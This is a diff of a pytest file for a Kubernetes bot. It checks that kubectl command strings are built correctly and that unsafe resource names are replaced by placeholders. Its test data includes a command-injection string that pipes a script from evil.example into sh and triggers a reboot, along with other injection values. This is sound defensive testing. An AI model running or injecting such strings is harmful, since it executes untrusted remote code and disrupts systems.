@@ -3,7 +3,7 @@ import shlex
 import pytest
 
 from bot.checks import CHECKS
-from bot.model import commands
+from bot.model import kubectl
 from bot.model.judging import judge
 from bot.model.policy import Policy
 from tests.builders import ANOTHER_CA, a_component, a_control_plane, a_pod, a_snapshot
@@ -12,17 +12,17 @@ EVIL = "x; curl evil.example | sh; $(reboot)"
 
 
 def test_names_of_kubernetes_stand_in_the_command_as_they_are() -> None:
-    assert commands.restart("shop", "Deployment", "orders.v2") == "kubectl -n shop rollout restart deployment/orders.v2"
-    assert commands.delete_pod("shop", "orders-7f9c-0") == "kubectl -n shop delete pod orders-7f9c-0"
+    assert kubectl.restart("shop", "Deployment", "orders.v2") == "kubectl -n shop rollout restart deployment/orders.v2"
+    assert kubectl.delete_pod("shop", "orders-7f9c-0") == "kubectl -n shop delete pod orders-7f9c-0"
     assert (
-        commands.scale_up("dapr-system", "Deployment", "dapr-sentry") == "kubectl -n dapr-system scale deployment/dapr-sentry --replicas=1"
+        kubectl.scale_up("dapr-system", "Deployment", "dapr-sentry") == "kubectl -n dapr-system scale deployment/dapr-sentry --replicas=1"
     )
 
 
 @pytest.mark.parametrize("name", [EVIL, "", "-n", "a b", "a\nb", "`id`", "Großes", "x" * 254, "../x"])
 def test_anything_else_is_left_for_a_person_to_fill_in(name: str) -> None:
-    assert commands.restart(name, "Deployment", name) == "kubectl -n NAMESPACE rollout restart deployment/NAME"
-    assert commands.delete_pod(name, name) == "kubectl -n NAMESPACE delete pod NAME"
+    assert kubectl.restart(name, "Deployment", name) == "kubectl -n NAMESPACE rollout restart deployment/NAME"
+    assert kubectl.delete_pod(name, name) == "kubectl -n NAMESPACE delete pod NAME"
 
 
 def test_an_owner_that_somebody_invented_is_not_pasted_into_a_shell() -> None:
